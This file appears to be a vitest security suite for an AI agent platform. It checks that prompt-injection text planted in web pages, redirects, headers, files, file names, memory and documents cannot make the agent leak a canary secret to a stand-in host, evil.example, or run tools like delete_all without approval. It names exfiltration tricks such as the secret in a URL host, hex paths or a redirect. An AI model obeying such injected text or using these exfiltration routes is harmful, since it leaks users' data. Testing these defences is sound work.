import { connect as connectTcp } from 'node:net';
import { writeFile, rm } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Run, RunEvent } from '../../../contract/model/run.ts';
import { createHttp } from '../../../main/core/base/http/index.ts';
import { openWorkshop, TestPlugins, type Workshop } from '../../core/agents/workshop.ts';
import { world, type Raw, type World } from '../../core/models/stand-in.ts';
import { openTestHome, questionOf, type TestHome, until } from '../../core/runs/home.ts';
import { ATTACKS, type Attack, type Carrier, type Step } from './attacks.ts';
import { CANARY, carriesCanary, codeOf, layFiles, markOf, obedientProvider, openHost, putPlugins, VICTIM, type Host } from './stand-in.ts';

let home: TestHome;
let provider: Raw;
let models: World;
let [good, evil]: Host[] = [];
let shop: Workshop;
let code: ReturnType<typeof codeOf>;
let hireId: string;
let outside: string;
let folder: string;
let grants: string[];
const plugins = new TestPlugins();
const now = { words: '', carrier: '' };
// Every public address is the attacker's host; nothing else than this machine is ever reached.
const http = createHttp({
  offline: () => false, environment: {},
  lookup: (host) => Promise.resolve(host === 'evil.example' || host.endsWith('.evil.example') ? ['93.184.216.34'] : ['127.0.0.1']),
  connect: async ({ addresses, port }) => {
    const socket = connectTcp(addresses.includes('93.184.216.34') ? (evil as Host).port : port, '127.0.0.1');
    await new Promise<void>((resolve, reject) => { socket.once('connect', resolve).once('error', reject); });
    return socket;
  },
});

beforeAll(async () => {
  home = await openTestHome();
  ({ folder, outside } = await layFiles(home.folder));
  evil = await openHost((_request, response) => { response.end('thank you'); });
  good = await openHost((_request, response) => {
    const to = (evil as Host).url;
    if (now.carrier === 'redirect') response.writeHead(302, { location: `${to}/?d=${CANARY}` }).end();
    else response.writeHead(200, now.carrier === 'header' ? { 'x-note': encodeURI(now.words) } : {}).end(now.carrier === 'page' ? `<html><title>Page</title>${now.words}</html>` : 'Nothing here.');
  });
  const places = (): Record<string, string> => ({ $EVIL: evil?.url ?? '', $EVILHOST: evil?.host ?? '', $EVILPORT: String(evil?.port), $GOOD: good?.url ?? '', $GOODHOST: good?.host ?? '', $OUTSIDE: outside });
  provider = await obedientProvider(ATTACKS, places);
  models = world();
  const { provider: added } = await models.models.addProvider({ baseUrl: provider.url });
  grants = [`network:${good.host}`, 'folder:data:read', 'tools:builtin.web_fetch'];
  plugins.folders.set(`${VICTIM} data`, { path: folder, access: 'read' });
  putPlugins(plugins, grants);
  code = codeOf(good, evil, now);
  shop = openWorkshop({ home, plugins, model: await models.models.resolve({ provider: added.id, model: 'm' }), sandbox: code, http });
  hireId = (await shop.team.hire({ pluginId: VICTIM, agentId: 'helper', name: 'Ada', model: null })).id;
});
afterAll(async () => {
  await shop.runs.stop();
  models.http.close();
  http.close();
  await Promise.all([provider.close(), good?.stop(), evil?.stop()]);
  await home.close();
});

const OPENINGS: Partial<Record<Carrier, object>> = {
  page: { name: 'read_page', arguments: {} }, redirect: { name: 'read_page', arguments: {} }, header: { name: 'hands', arguments: { call: 'fetch', args: { url: '$GOOD/head', method: 'GET', headers: [] } } },
  file: { name: 'read_file', arguments: { path: 'note.txt' } }, 'file name': { name: 'list_files', arguments: {} }, result: { name: 'look', arguments: {} }, output: { name: 'look', arguments: {} },
  error: { name: 'fails', arguments: {} }, configuration: { name: 'look', arguments: {} },
};

interface Outcome { readonly run: Run; readonly events: RunEvent[]; readonly id: string }

/** Lets the agent meet the words, and waits until it is asked about something or has answered. */
async function attack(one: Attack, more: { grants?: readonly string[] } = {}): Promise<Outcome> {
  const at = ATTACKS.indexOf(one);
  Object.assign(now, { words: `${one.words} ${markOf(at)}`, carrier: one.carrier });
  putPlugins(plugins, more.grants ?? grants, one, at);
  const named = path.join(folder, `${one.words.slice(0, 40).replaceAll(/[^a-z ]/gi, ' ')} ${markOf(at)}`);
  if (one.carrier === 'file') await writeFile(path.join(folder, 'note.txt'), now.words);
  if (one.carrier === 'file name') await writeFile(named, '');
  const memory = one.carrier === 'memory' ? await shop.memory.add({ scope: 'shared', text: now.words, kind: 'fact', pinned: true }) : undefined;
  const { document } = one.carrier === 'passage' ? await shop.knowledge.add({ upload: `upload-${at}`, offset: 0, base64: Buffer.from(now.words).toString('base64'), last: true, name: 'note.txt', scope: 'shared' }) : {};
  const opening = OPENINGS[one.carrier];
  // What is only there without being read (a document, a description) needs no call to reach the model.
  const mark = one.carrier === 'tool name' || one.carrier === 'pasted' ? ` ${now.words}` : '';
  const id = (await shop.chat.start({ hireId })).id;
  const { runId } = await shop.chat.send({ id, text: `Look at it for me.${mark} ${opening ? `OPEN${JSON.stringify(opening)}NEPO` : ''}` });
  await until(async () => !['pending', 'running'].includes((await shop.runs.get({ id: runId })).status));
  if (one.carrier === 'file name') await rm(named);
  if (memory) await shop.memory.forget({ id: memory.id });
  if (document) await shop.knowledge.remove({ id: document.id });
  return { run: await shop.runs.get({ id: runId }), events: await home.store.read('runLog', { runId }), id };
}
const dataOf = (events: readonly RunEvent[], type: string) => events.filter((event) => event.type === type).map((event) => event.data);
/** A call that a plugin's tool makes of another is asked about as that other. */
function toolOf(step: Step | undefined): string {
  if (step?.name === 'hands') return String((step.arguments as { args: { name: string } }).args.name);
  return step?.name === 'web_fetch' ? 'builtin.web_fetch' : `${VICTIM}/${step?.name}`;
}
const codeIn = (data: Record<string, unknown> | undefined): unknown => (data?.['error'] as { code?: unknown } | null | undefined)?.code;

describe('A3 text never grants, sends or changes anything by itself', () => {
  it('the corpus is large and its cases differ', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
    expect(new Set(ATTACKS.map(({ name }) => name)).size).toBe(ATTACKS.length);
    expect(['+', '/'].some((mark) => carriesCanary(mark))).toBe(false);
    for (const form of [CANARY, Buffer.from(CANARY).toString('base64'), Buffer.from(`ab${CANARY}`).toString('base64'), Buffer.from(CANARY).toString('hex').toUpperCase()]) expect(carriesCanary(`x${form}y`)).toBe(true);
  });

  it.each(ATTACKS.map((one) => [one.carrier, one.name, one] as const))('%s: %s', async (_carrier, _name, one) => {
    const { run, events } = await attack(one);
    // What the model asked for; calls between tools have a stroke in their id.
    const finished = dataOf(events, 'tool_usage_finished').filter((data) => !String(data['callId']).includes('/'));
    if (one.ends === 'asks') {
      expect(run.status).toBe('waiting');
      expect(dataOf(events, 'tool_approval_requested')).toMatchObject([{ toolId: toolOf(one.steps.at(-1)), reason: 'policy' }]);
      await shop.runs.cancel({ id: run.id });
    } else {
      expect(run.status).toBe('completed');
      expect(dataOf(events, 'tool_approval_requested')).toEqual([]);
      // It did obey: every step was tried, and the last one was refused.
      expect(finished).toHaveLength(one.steps.length + (OPENINGS[one.carrier] ? 1 : 0));
      if (one.ends === 'any refusal') expect(codeIn(finished.at(-1))).toMatch(/^(permission\/denied|core\/bad-input|core\/unreachable|files\/)/);
      else if (one.ends !== 'said') expect(codeIn(finished.at(-1))).toBe(one.ends);
    }
    if (one.steps.some(({ name }) => name === 'read_file')) expect(finished.some((data) => String(data['content']).includes(CANARY))).toBe(true);
    expect(evil?.seen).toEqual([]);
    expect(good?.seen.filter(carriesCanary)).toEqual([]);
    expect(code.done).toEqual([]);
    expect(dataOf(events, 'tool_approval_answered')).toEqual([]);
    expect(await shop.runs.approvals()).toEqual({ approvals: [] });
    expect([...(plugins.codes.get(VICTIM)?.grants ?? [])]).toEqual(grants);
    expect((await shop.team.list()).hires.map(({ id }) => id)).toEqual([hireId]);
  });
});

const named = (name: string): Attack => ATTACKS.find((one) => one.name === name) as Attack;
const took = (): { sent: string[]; done: string[] } => ({ sent: evil?.seen.splice(0) ?? [], done: code.done.splice(0) });

describe('A3 with the guard off the same text does its harm', () => {
  it('a call that the person allows is made, and carries the secret', async () => {
    for (const name of ['orders in a page', 'orders in base64']) {
      const { run } = await attack(named(name));
      await shop.runs.approve({ ...await questionOf(home.store, run.id), decision: 'allow', scope: 'once' });
      await shop.runs.settled(run.id);
      const { sent, done } = took();
      expect(done).toEqual(['send_mail']);
      expect(sent.some(carriesCanary)).toBe(true);
    }
  });

  it('a page whose address the person allows is told the secret by it', async () => {
    for (const name of ['the secret in the address of a page', 'the secret in the host of a page', 'a page through another tool, so that nobody sees it', 'orders in what is remembered']) {
      const { run } = await attack(named(name));
      await shop.runs.approve({ ...await questionOf(home.store, run.id), decision: 'allow', scope: 'once' });
      await shop.runs.settled(run.id);
      const { sent } = took();
      expect([name, sent, sent.some(carriesCanary)]).toEqual([name, [expect.stringMatching(/^GET \//)], true]);
    }
  });

  it('an address that the person wrote is read without a question', async () => {
    putPlugins(plugins, grants);
    const { id } = await shop.chat.start({ hireId });
    const { runId } = await shop.chat.send({ id, text: `Read http://evil.example/c. OPEN${JSON.stringify({ name: 'web_fetch', arguments: { url: 'http://evil.example/c' } })}NEPO` });
    await shop.runs.settled(runId);
    const events = await home.store.read('runLog', { runId });
    expect(dataOf(events, 'tool_approval_requested')).toEqual([]);
    expect(dataOf(events, 'tool_usage_finished')).toMatchObject([{ toolId: 'builtin.web_fetch', error: null }]);
    expect(took().sent).toMatchObject([expect.stringMatching(/^GET \/c /)]);
  });

  it.each(['the secret in an address', 'the secret in a path, in hex', 'the secret in a header', 'a redirect away from the granted host'])('a host that was granted is reached: %s', async (name) => {
    await attack(named(name), { grants: [...grants, `network:${evil?.host}`] });
    expect(took().sent.some(carriesCanary)).toBe(true);
  });

  it('a folder, a tool and a store that were granted are used', async () => {
    plugins.folders.set(`${VICTIM} home`, { path: home.folder, access: 'read' });
    await writeFile(path.join(home.folder, 'outside.txt'), CANARY);
    const stolen = await attack(named('a tool of another plugin, through the plugin'), { grants: [...grants, 'tools:dev.test.other/steal'] });
    expect(dataOf(stolen.events, 'tool_usage_finished').some((data) => data['toolId'] === 'dev.test.other/steal' && data['content'] === CANARY)).toBe(true);
    expect(took().done).toEqual(['steal']);
    const kept = await attack(named('storage that nobody granted'), { grants: [...grants, 'storage:100000'] });
    // Granted, and still no write during a call that says it only reads.
    expect(codeIn(dataOf(kept.events, 'tool_usage_finished').at(-1))).toBe('permission/denied');
  });
});

describe('A3 an answer is for one question', () => {
  const DELETE = named('urgency');
  const refusal = { code: 'run/not-found' };

  it('guessed, repeated, of another run and after the end: none is taken', async () => {
    const [first, second] = [await attack(DELETE), await attack(DELETE)];
    const callId = String(dataOf(first.events, 'tool_approval_requested')[0]?.['callId']);
    const allow = async (id: string, call: string) => shop.runs.approve({ ...await questionOf(home.store, first.run.id), id, callId: call, decision: 'allow', scope: 'always' });
    for (const guess of ['', 'call', 'c1-1', 'c99-1', `${callId} `, `${callId}/1`, callId.toUpperCase(), '__proto__', '%']) {
      if (guess !== callId) await expect(allow(first.run.id, guess)).rejects.toMatchObject(refusal);
    }
    await expect(allow('no-such-run', callId)).rejects.toMatchObject(refusal);
    await shop.runs.approve({ ...await questionOf(home.store, first.run.id), decision: 'deny', scope: 'once' });
    await expect(allow(first.run.id, callId)).rejects.toMatchObject(refusal);
    await shop.runs.settled(first.run.id);
    await expect(allow(first.run.id, callId)).rejects.toMatchObject(refusal);
    await shop.runs.cancel({ id: second.run.id });
    await expect(allow(second.run.id, callId)).rejects.toMatchObject(refusal);
    expect(took()).toEqual({ sent: [], done: [] });
    expect(await shop.runs.approvals()).toEqual({ approvals: [] });
  });

  it('once is for one call, for a chat is for that chat, always is for that tool until it changes or is taken back', async () => {
    const answer = async (scope: 'once' | 'conversation' | 'always', decision: 'allow' | 'deny' = 'allow'): Promise<string> => {
      const { run } = await attack(DELETE);
      expect(run.status).toBe('waiting');
      await shop.runs.approve({ ...await questionOf(home.store, run.id), decision, scope });
      await shop.runs.settled(run.id);
      return took().done.join();
    };
    expect([await answer('once'), await answer('conversation'), await answer('always')]).toEqual(['delete_all', 'delete_all', 'delete_all']);
    expect((await attack(DELETE)).run.status).toBe('completed');
    expect(took().done).toEqual(['delete_all']);
    // Another tool of the same plugin, and the same tool with another description, are other tools.
    const mail = await attack(named('a role to play'));
    expect(mail.run.status).toBe('waiting');
    await shop.runs.cancel({ id: mail.run.id });
    for (const { toolId, scope } of (await shop.runs.approvals()).approvals) await shop.runs.revokeApproval({ hireId, toolId, scope });
    expect(await answer('always', 'deny')).toBe('');
    expect((await attack(DELETE)).run.status).toBe('completed');
    expect(took()).toEqual({ sent: [], done: [] });
  });
});
